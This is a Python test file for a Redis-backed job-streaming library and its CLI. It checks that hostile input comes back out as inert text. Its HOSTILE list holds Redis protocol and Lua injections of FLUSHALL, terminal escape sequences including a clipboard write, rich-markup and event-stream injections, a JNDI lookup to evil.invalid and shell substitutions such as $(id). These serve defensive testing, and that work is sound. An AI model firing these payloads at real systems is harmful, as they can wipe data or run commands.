"""Hostile content is content: stored, streamed and shown as text, whatever it means to Redis, Lua, a terminal or rich."""

import asyncio
import json
from typing import Any, Final

import pytest
from redis.asyncio import Redis
from secure_runs import on_terminal, run

from engine import Engine, engine
from tailrace import AsyncTailrace, InvalidRequest, JobFailed, Settings
from tailrace.cli.output import compact, printable
from tailrace.schemas import JobRecord, Keys

HOSTILE: Final = (
    "\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "\r\nFLUSHALL\r\n",
    "') redis.call('FLUSHALL') --",
    "]] redis.call('FLUSHALL') [[",
    '"}\n1-1 end 2\n{}\n',
    '{"last":"0-1","status":"completed"}',
    "nul\x00nul",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b]52;c;ZXZpbA==\x07\x9b31m\x90q\x9c",
    "[red]red[/red] [link=https://evil.invalid]x[/link] [/] [bold",
    "data: [DONE]\n\nevent: error\ndata: {}\n\n",
    "%s %n {0} {self} ${jndi:ldap://evil.invalid} `id` $(id)",
    "\u202etxet \u2028 \u2029 \ufeff 🎈 𐀀",
    "x" * 100_000,
)
CONTROLS: Final = {*range(0x20), *range(0x7F, 0xA0)} - {0x0A, 0x0D, 0x09}


def as_output(*chunks: str, **script: Any) -> dict[str, Any]:
    """The params of a request that the rehearsal answers with these chunks."""
    return {"params": {"rehearsal": {"chunks": list(chunks), **script}}}


async def test_prompts_metadata_and_output_come_out_as_they_went_in(redis: Redis, namespace: str) -> None:
    store: Any = redis
    await store.set("canary", "alive", px=60_000)
    async with engine(redis, namespace) as e:
        public = HOSTILE[:-1]
        metadata: dict[str, Any] = {**dict(zip(public, reversed(public), strict=True)), "deep": [[{"a": None}], []]}
        prompt = "".join(HOSTILE)
        job = await e.tailrace.submit(prompt, metadata=metadata, tags=public, model="rehearsal", **as_output(*HOSTILE))
        live = [chunk async for chunk in job.stream()]
        assert "".join(live) == "".join(HOSTILE)
        first = await anext(records := job.records())
        await records.aclose()
        late = [chunk async for chunk in job.stream()]
    assert late == live
    assert isinstance(first, JobRecord)
    assert first.metadata == metadata
    assert first.tags == list(public)
    (call,) = e.rehearsal.calls
    assert call.body["messages"] == [{"role": "user", "content": prompt}]
    assert await store.get("canary") == b"alive"
    await store.delete("canary")


@pytest.mark.parametrize("text", [*HOSTILE, "", "a b", "a:b", "{a}", "../a", "a" * 129, "é", "٣"])
async def test_ids_and_positions_are_plain_or_refused(redis: Redis, namespace: str, text: str) -> None:
    async with engine(redis, namespace, with_worker=False) as e:
        for attempt in (e.tailrace.submit("x", job_id=text), _attached(e, text)):
            with pytest.raises(InvalidRequest):
                await attempt
        job = await e.tailrace.submit("x")
        if text:
            with pytest.raises(InvalidRequest):
                async for _ in job.stream(after=text):
                    pass
    if not text.isascii() or not text.isalnum():
        with pytest.raises(InvalidRequest):
            Keys(text)


async def _attached(e: Engine, job_id: str) -> None:
    await e.tailrace.job(job_id).status()


async def test_json_that_is_nested_without_end_is_refused_or_runs(redis: Redis, namespace: str) -> None:
    deep: Any = "x"
    for _ in range(900):
        deep = [deep]
    async with engine(redis, namespace) as e:
        refused: list[dict[str, Any]] = [{"metadata": {"a": deep}}, {"params": {"a": deep}}]
        for given in refused:
            with pytest.raises(InvalidRequest):
                await e.tailrace.submit("x", **given)
        for _ in range(830):
            deep = deep[0]
        job = await e.tailrace.submit("x", model="rehearsal", metadata={"a": deep}, params={"a": deep})
        assert await job.text(timeout=10)


@pytest.fixture
async def shown(server_url: str, namespace: str, real_redis: Redis) -> list[str]:
    """Arguments for commands, the id of a finished job with hostile words first."""
    async with engine(real_redis, namespace) as e:
        words = HOSTILE[:-1]
        job = await e.tailrace.submit(
            "x",
            model="rehearsal",
            tags=words,
            metadata=dict.fromkeys(words, "x"),
            job_id="hostile",
            **as_output(*words),
        )
        await job.text(timeout=10)
        failing = await e.tailrace.submit(
            "x", job_id="failing", model="rehearsal", **as_output("x", fault="status", code=400, error_code=words[7])
        )
        with pytest.raises(JobFailed):
            await failing.text(timeout=10)
    return ["--redis-url", server_url, "--namespace", namespace]


@pytest.mark.parametrize(
    "command",
    [
        ("tail", "hostile"), ("tail", "hostile", "--json"), ("tail", "hostile", "--events"), ("tail", "hostile", "--records"),
        ("tail", "hostile", "--records", "--json"), ("status", "hostile"), ("status", "hostile", "--json"),
        ("tail", "failing"), ("tail", "failing", "--json"), ("status", "failing"), ("tail", "\x1b[2J\x9b31m"),
        ("submit", "x", "--job-id", "\x1b]0;x\x07", "--json"), ("submit", "x", "--api", "\x1b[31m[red]"),
    ],
    ids=" ".join,
)  # fmt: skip
async def test_a_terminal_gets_no_command_from_anybodys_words(shown: list[str], command: tuple[str, ...]) -> None:
    # A terminal that can be drawn on gets the tree of runs, which tests/cli/test_cli_tree.py is hostile to.
    env = {"TERM": "dumb"} if "--events" in command else {}
    said = (await asyncio.to_thread(on_terminal, *command, *shown, env=env)).decode()
    assert said
    assert not {ord(character) for character in said} & CONTROLS, said[:2000]
    if command[:2] == ("tail", "hostile"):
        # Nor is it taken for markup.
        assert "[red]red[/red] [link=https://evil.invalid]x[/link] [/] [bold" in said


async def test_a_pipe_gets_the_text_as_it_is_and_json_that_says_the_same(shown: list[str]) -> None:
    plain = await asyncio.to_thread(run, "tail", "hostile", *shown, env={})
    assert plain.said == "".join(HOSTILE[:-1])
    told = await asyncio.to_thread(run, "tail", "hostile", "--json", *shown, env={})
    assert not {ord(character) for character in told.said} & CONTROLS
    lines = [json.loads(line) for line in told.said.split("\n") if line]
    assert [line["text"] for line in lines if line["kind"] == "chunk"] == list(HOSTILE[:-1])


def test_what_is_made_printable_keeps_everything_but_controls() -> None:
    assert printable("a\tb\nc 🎈 [red]") == "a\tb\nc 🎈 [red]"
    assert not {ord(character) for character in printable("".join(map(chr, range(256))))} & CONTROLS
    everything = "".join(map(chr, range(0x300)))
    assert json.loads(compact(everything)) == everything


async def test_a_record_that_somebody_planted_is_an_error_of_ours_and_no_clean_end(
    real_redis: Redis, server_url: str, namespace: str
) -> None:
    store: Any = real_redis
    keys = Keys(namespace)
    async with AsyncTailrace(settings=Settings(redis_url=server_url, namespace=namespace)) as tailrace:
        job = await tailrace.submit("x")
        await store.publish(keys.live(job.id), b"0-1\n" + b"\xff" * 100)
        end = '{"last":"0-1","status":"completed","ts":1}'
        await store.publish(keys.live(job.id), f"9-9\n18446744073709551615-18446744073709551615 end 5\n{end}\n")
        with pytest.raises(TimeoutError):
            await job.result(timeout=0.2)
